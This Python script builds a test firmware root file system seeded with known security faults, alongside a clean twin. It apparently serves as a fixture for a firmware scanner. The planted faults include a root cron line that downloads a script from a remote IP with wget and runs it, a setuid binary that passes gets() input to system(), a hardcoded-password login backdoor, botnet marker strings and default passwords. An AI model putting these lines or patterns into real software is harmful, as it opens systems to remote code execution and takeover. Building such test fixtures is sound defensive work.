#!/usr/bin/python3
"""mkseeded -- a small root file system with known faults, and its mended twin, in several containers.

usage: mkseeded.py DIR      writes DIR/seeded.* and DIR/clean.*, DIR/policy.toml, DIR/feed, DIR/planted.json

Nothing here is a real device's. Passwords and markers are from published lists; keys are made anew each time.
SPDX-License-Identifier: Apache-2.0
"""
import datetime
import gzip
import hashlib
import io
import json
import os
import pathlib
import shutil
import subprocess
import sys
import tarfile

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519

AUTHORIZED = "/" + "root/.ssh/authorized_keys"
# Rule -> where its fault was planted, inside the tree.
PLANTED = {
    "CRED-001": "/etc/shadow", "CRED-002": "/etc/shadow", "CRED-003": "/etc/shadow",
    "CRED-004": "/etc/shadow", "CRED-005": "/etc/passwd", "CRED-006": AUTHORIZED,
    "CRED-007": "/etc/wpa_supplicant.conf",
    "KEY-001": "/etc/ssl/private/server.key", "KEY-003": "/etc/ssh/ssh_host_ed25519_key",
    "KEY-004": "/etc/ssl/old.crt", "KEY-005": "/etc/cloud.conf",
    "SVC-001": "/etc/inittab", "SVC-002": "/etc/inittab", "SVC-003": "/etc/miniupnpd/miniupnpd.conf",
    "SVC-004": "/etc/mosquitto/mosquitto.conf", "SVC-005": "/etc/crontabs/root",
    "DBG-001": "/usr/bin/gdb", "DBG-002": "/etc/inittab", "DBG-004": "/boot/config-5.10.0",
    "KRN-002": "/boot/config-5.10.0", "KRN-003": "/boot/config-5.10.0",
    "ELF-001": "/usr/sbin/weak", "ELF-002": "/usr/sbin/weak", "ELF-003": "/usr/sbin/weak",
    "ELF-006": "/usr/sbin/weak", "ELF-010": "/usr/sbin/weak", "ELF-012": "/usr/sbin/weak",
    "ELF-013": "/usr/sbin/weak",
    "PRIV-001": "/usr/sbin/weak", "PRIV-002": "/etc/rc.local", "PRIV-003": "/usr/sbin/owned",
    "PRIV-004": "/etc/null", "PRIV-005": "/usr/lib/.hidden",
    "UPD-001": "/etc/rauc/system.conf", "UPD-002": "/etc/opkg.conf",
    "BOT-001": "/usr/lib/.hidden", "BKD-001": "/usr/sbin/login2", "BKD-002": "/usr/sbin/httpd",
    "BKD-003": "/usr/sbin/httpd",
    "VULN-001": "/var/lib/dpkg/status", "VULN-002": "/var/lib/dpkg/status",
    "SBOM-001": "/usr/sbin/weak", "SBOM-002": "/usr/bin/tool",
    "POL-001": "/etc/forbidden",
}
STRONG = ["-O2", "-fPIE", "-pie", "-fstack-protector-all", "-D_FORTIFY_SOURCE=2", "-fcf-protection=full",
          "-fstack-clash-protection", "-Wl,-z,relro,-z,now,-z,noexecstack", "-Wl,-z,ibt,-z,shstk",
              "-Wl,--build-id", "-s"]
WEAK = ["-O0", "-g", "-no-pie", "-fno-pie", "-fno-stack-protector", "-U_FORTIFY_SOURCE",
    "-fcf-protection=none",
        "-Wl,-z,norelro,-z,execstack,-z,lazy", "-Wl,--build-id=none", "-Wl,-rpath,/tmp/lib", "-w"]
GOOD = "#include <stdio.h>\n#include <string.h>\n" \
       "int main(int n, char **v){char b[64];strcpy(b,v[n-1]);return puts(b);}\n"
BAD = ("#include <stdio.h>\n#include <stdlib.h>\nextern char *gets(char *);\n"
       "int main(void){char b[64];gets(b);return system(b);}\n")
LOGIN = ("#include <stdio.h>\n#include <string.h>\n#include <unistd.h>\n"
    "extern char *crypt(const char *, const char *);\n"
         "int main(int n, char **v){const char *p=\"xc3511\";"
         "return strcmp(v[n-1],p)==0||strcmp(crypt(v[n-1],\"ab\"),\"x\")==0;}\n")
HTTPD = ("#include <stdio.h>\nint main(void){puts(\"xmlset_roodkcableoj28840ybtide\");"
         "puts(\"http://203.0.114.77/cmd\");return 0;}\n")
BOT = "#include <stdio.h>\nint main(void){puts(\"/bin/busybox MIRAI\");puts(\"dvrHelper\");return 0;}\n"
HARD = ["STRICT_KERNEL_RWX", "STRICT_MODULE_RWX", "STACKPROTECTOR_STRONG", "RANDOMIZE_BASE",
    "HARDENED_USERCOPY",
        "FORTIFY_SOURCE", "SLAB_FREELIST_RANDOM", "SLAB_FREELIST_HARDENED", "VMAP_STACK", "SECCOMP_FILTER",
        "STRICT_DEVMEM", "SECURITY_DMESG_RESTRICT", "INIT_ON_ALLOC_DEFAULT_ON", "MODULE_SIG",
            "MODULE_SIG_FORCE"]
SOFT = ["PROC_KCORE", "DEBUG_FS", "KGDB", "MAGIC_SYSRQ", "LEGACY_TIOCSTI", "KEXEC"]
POLICY = """[allow]
services = ["S50app", "app", "good", "rcS", "getty"]
hosts = ["updates.example.com", "www.debian.org"]
suid = []
[[file]]
path = "/etc/forbidden"
absent = true
"""


def program(work, source, flags, libs=()):
    src, out = work / "p.c", work / "p"
    src.write_text(source)
    subprocess.run(["gcc", *flags, "p.c", "-o", "p", *libs], cwd=work, check=True, capture_output=True)
    return out.read_bytes()


def hashed(kind, password):
    done = subprocess.run(["openssl", "passwd", kind, "-salt", "abcdefgh", password], check=True,
                          capture_output=True, text=True)
    return done.stdout.strip()


def certificate():
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "old.example")])
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(7).not_valid_before(datetime.datetime(2015, 1, 1))
            .not_valid_after(datetime.datetime(2016, 1, 1)).sign(key, hashes.SHA256()))
    return cert.public_bytes(serialization.Encoding.PEM)


def kconfig(good):
    on, off = (HARD, SOFT) if good else (SOFT, HARD)
    lines = [f"CONFIG_{name}=y" for name in on] + [f"# CONFIG_{name} is not set" for name in off]
    return "# Linux/arm 5.10.0 Kernel Configuration\nCONFIG_MODULES=y\n" + "\n".join(lines) + "\n"


def dpkg(tree, tool):
    status = ("Package: tool\nStatus: install ok installed\nArchitecture: all\nVersion: 1.0-1\n"
              "Maintainer: Good People <good@example.com>\nHomepage: https://example.com/tool\n\n")
    if tree == "seeded":
        status += ("Package: curl\nStatus: install ok installed\nArchitecture: armhf\n"
            "Version: 7.88.1-10+deb12u1\n"
                   "Maintainer: Good People <good@example.com>\n\n")
    return {"/var/lib/dpkg/status": (status, 0o644, 0),
            "/var/lib/dpkg/info/tool.list": ("/.\n/usr\n/usr/bin\n/usr/bin/tool\n/etc\n/etc/init.d\n"
                "/etc/init.d/rcS\n", 0o644, 0),
            "/var/lib/dpkg/info/tool.md5sums": (f"{hashlib.md5(tool).hexdigest()}  usr/bin/tool\n", 0o644, 0),
            "/etc/os-release": ('ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\n', 0o644, 0)}


def clean(work):
    good = program(work, GOOD, STRONG)
    files = {
        "/etc/passwd": ("root:x:0:0:root:/root:/bin/sh\nsvc:x:100:100::/:/bin/false\n", 0o644, 0),
        "/etc/shadow": ("root:!:19000:0:99999:7:::\nsvc:*:19000:0:99999:7:::\n", 0o600, 0),
        "/etc/inittab": ("::sysinit:/etc/init.d/rcS\n", 0o644, 0),
        "/etc/init.d/rcS": ("#!/bin/sh\nexit 0\n", 0o755, 0),
        "/boot/config-5.10.0": (kconfig(True), 0o644, 0),
        "/etc/rauc/system.conf": ("[system]\ncompatible=x\nbootloader=uboot\nmin-bundle-version=3\n"
            "[keyring]\npath=/etc/rauc/ca.pem\n",
                                  0o644, 0),
        "/usr/share/doc/tool/copyright": (
            "Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/"
                                          "\n\nFiles: *\nCopyright: Good People\nLicense: MIT\n", 0o644, 0),
        "/usr/bin/tool": (good, 0o755, 0),
    }
    files.update(dpkg("clean", good))
    return files


def seeded(work):
    ssh = ed25519.Ed25519PrivateKey.generate()
    server = ec.generate_private_key(ec.SECP256R1())
    pem, raw = serialization.Encoding.PEM, serialization.NoEncryption()
    token = "ghp" + "_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    files = clean(work)
    files.update(dpkg("seeded", files["/usr/bin/tool"][0]))
    files.update({
        "/etc/passwd": ("root:x:0:0:root:/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\nadmin:x:50:50::/:/bin/sh\n"
                        "svc:x:100:100::/:/bin/sh\n", 0o644, 0),
        "/etc/shadow": (f"root:{hashed('-1', 'xc3511')}:19000:0:99999:7:::\nadmin::19000:0:99999:7:::\n"
                        f"svc:{hashed('-6', 'Kx82-unlisted-phrase')}:19000:0:99999:7:::\n", 0o600, 0),
        AUTHORIZED: (ssh.public_key().public_bytes(
            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH) + b" factory@maker\n",
                0o600, 0),
        "/etc/wpa_supplicant.conf": ('network={\n\tssid="x"\n\tpsk="factory-secret-1"\n}\n', 0o644, 0),
        "/etc/ssl/private/server.key": (server.private_bytes(pem, serialization.PrivateFormat.PKCS8, raw),
            0o600, 0),
        "/etc/ssh/ssh_host_ed25519_key": (ssh.private_bytes(pem, serialization.PrivateFormat.OpenSSH, raw),
                                          0o600, 0),
        "/etc/ssl/old.crt": (certificate(), 0o644, 0),
        "/etc/cloud.conf": (f"token={token}\n", 0o644, 0),
        "/etc/inittab": ("::sysinit:/etc/init.d/rcS\n::respawn:/usr/sbin/telnetd -F -p 2323\n"
                         "ttyS0::respawn:/bin/sh\n", 0o644, 0),
        "/etc/miniupnpd/miniupnpd.conf": ("ext_ifname=eth0\nsecure_mode=no\n", 0o644, 0),
        "/etc/mosquitto/mosquitto.conf": ("listener 1883 0.0.0.0\n", 0o644, 0),
        "/etc/crontabs/root": ("*/5 * * * * wget -O /tmp/x http://198.51.100.7/x.sh && sh /tmp/x\n", 0o644,
            0),
        "/usr/bin/gdb": (program(work, GOOD, STRONG), 0o755, 0),
        "/boot/config-5.10.0": (kconfig(False), 0o644, 0),
        "/usr/sbin/weak": (program(work, BAD, WEAK), 0o4755, 0),
        "/usr/sbin/telnetd": (program(work, GOOD, STRONG), 0o755, 0),
        "/etc/rc.local": ("#!/bin/sh\nexit 0\n", 0o777, 0),
        "/usr/sbin/owned": (program(work, GOOD, STRONG), 0o755, 100),
        "/usr/lib/.hidden": (program(work, BOT, STRONG), 0o755, 0),
        "/etc/rauc/system.conf": ("[system]\ncompatible=x\nbootloader=uboot\n", 0o644, 0),
        "/etc/opkg.conf": ("src/gz base http://updates.example.com/base\noption check_signature\n", 0o644, 0),
        "/usr/sbin/login2": (program(work, LOGIN, STRONG, ("-lcrypt",)), 0o755, 0),
        "/usr/sbin/httpd": (program(work, HTTPD, STRONG), 0o755, 0),
        "/usr/bin/tool": (files["/usr/bin/tool"][0] + b"\0implant", 0o755, 0),
        "/etc/forbidden": ("x\n", 0o644, 0),
    })
    return files


def tar_of(files, device):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as tar:
        dirs = sorted({str(p) for f in files for p in pathlib.PurePosixPath(f).parents})
        for name in dirs:
            info = tarfile.TarInfo("." + name)
            info.type, info.mode = tarfile.DIRTYPE, 0o755
            tar.addfile(info)
        for name, (text, mode, uid) in sorted(files.items()):
            data = text if isinstance(text, bytes) else text.encode()
            info = tarfile.TarInfo("." + name)
            info.size, info.mode, info.uid, info.mtime = len(data), mode, uid, 1700000000
            tar.addfile(info, io.BytesIO(data))
        if device:
            info = tarfile.TarInfo("./etc/null")
            info.type, info.mode, info.devmajor, info.devminor = tarfile.CHRTYPE, 0o666, 1, 3
            tar.addfile(info)
    return out.getvalue()


def unpack(data, where):
    """For packers that want a folder; without root they get what an ordinary user may make."""
    where.mkdir()
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        for info in tar:
            if info.ischr() and os.geteuid() != 0:
                continue
            tar.extract(info, where, numeric_owner=True)


def fit(work, data, out):
    (work / "rd.tar").write_bytes(data)
    (work / "x.its").write_text(
        '/dts-v1/;\n/ { description = "x"; #address-cells = <1>; images { ramdisk-1 { description = "r"; '
        'data = /incbin/("rd.tar"); type = "ramdisk"; arch = "arm"; os = "linux"; compression = "none"; '
        'hash-1 { algo = "sha256"; }; }; }; configurations { default = "c"; c { ramdisk = "ramdisk-1"; '
            '}; }; };\n')
    subprocess.run(["mkimage", "-f", "x.its", out], cwd=work, check=True, capture_output=True)


def pack(name, data, to, work):
    (to / f"{name}.tar").write_bytes(data)
    (to / f"{name}.tar.gz").write_bytes(gzip.compress(data, mtime=0))
    if shutil.which("sqfstar"):
        for codec in ("gzip", "xz", "zstd", "lz4", "lzo", "lzma"):
            image = to / f"{name}.{codec}.squashfs"
            done = subprocess.run(["sqfstar", "-comp", codec, "-root-mode", "0755", str(image)],
                input=data, capture_output=True,
                                  check=False)
            if done.returncode != 0:
                image.unlink(missing_ok=True)
    # A FIT without a signed configuration is a fault in itself, so the twin has none.
    if shutil.which("mkimage") and name == "seeded":
        fit(work, data, to / f"{name}.itb")
    folder = work / name
    unpack(data, folder)
    if shutil.which("mke2fs"):
        image = to / f"{name}.ext4"
        image.write_bytes(b"")
        subprocess.run(["mke2fs", "-q", "-F", "-t", "ext4", "-d", str(folder), str(image), "24M"], check=True,
                       capture_output=True)
    if shutil.which("mkfs.jffs2"):
        subprocess.run(["mkfs.jffs2", "-l", "-e", "64KiB", "-r", str(folder), "-o",
            str(to / f"{name}.jffs2")],
                       check=True, capture_output=True)


def write_feed(to, today):
    feed = to / "feed"
    feed.mkdir()
    stamp = f"{today}T00:00:00Z"
    (feed / "osv.json").write_text(json.dumps({
        "id": "CVE-2026-10001", "modified": stamp, "published": stamp,
        "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
        "affected": [{"package": {"ecosystem": "Debian:12", "name": "curl"}, "ranges": [
            {"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "7.88.1-10+deb12u99"}]}]}]}))
    (to / "kev.json").write_text(json.dumps({
        "title": "CISA Catalog of Known Exploited Vulnerabilities", "catalogVersion": today,
            "dateReleased": stamp,
        "count": 1, "vulnerabilities": [{
            "cveID": "CVE-2026-10001", "vendorProject": "x", "product": "curl", "vulnerabilityName": "x",
            "dateAdded": today, "shortDescription": "x", "requiredAction": "x", "dueDate": today,
            "knownRansomwareCampaignUse": "Unknown", "notes": ""}]}))


def main():
    if len(sys.argv) != 2:
        print(__doc__.split("\n\n")[1], file=sys.stderr)
        return 2
    to = pathlib.Path(sys.argv[1])
    work = to / "work"
    work.mkdir(parents=True)
    pack("seeded", tar_of(seeded(work), True), to, work)
    pack("clean", tar_of(clean(work), False), to, work)
    shutil.rmtree(work)
    write_feed(to, datetime.date.today().isoformat())
    (to / "policy.toml").write_text(POLICY)
    (to / "planted.json").write_text(json.dumps(PLANTED, indent=1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
